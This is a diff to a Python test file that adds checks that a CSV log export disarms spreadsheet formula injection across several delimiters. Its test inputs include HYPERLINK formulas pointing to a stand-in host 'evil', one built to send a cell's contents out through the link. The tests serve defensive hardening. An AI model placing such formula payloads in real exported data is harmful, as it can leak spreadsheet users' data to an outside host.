@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -250,6 +251,17 @@ def test_cells_that_a_spreadsheet_would_run_are_disarmed() -> None:
     (entry,) = chained([replace(act(1), subject='=HYPERLINK("http://evil")', actor="'=x")], Head(), NOON)
     text = "".join(write_lines([entry], "csv"))
     assert '"\'=HYPERLINK(""http://evil"")"' in text
+    (read,) = read_lines(text.splitlines())
+    assert read == entry
+
+
+def test_nothing_begins_a_formula_where_cells_end_at_semicolons() -> None:
+    evil = 'done;=HYPERLINK("http://evil/?"&A1;"x")'
+    (entry,) = chained([replace(act(1), subject=evil, actor="a;=1", details={evil: evil})], Head(), NOON)
+    text = "".join(write_lines([entry], "csv"))
+    for separator in ",;\t":
+        for row in csv.reader(text.splitlines(), delimiter=separator):
+            assert not any(cell.startswith(("=", "+", "@")) for cell in row)
     (read,) = read_lines(text.splitlines())
     assert read == entry
 
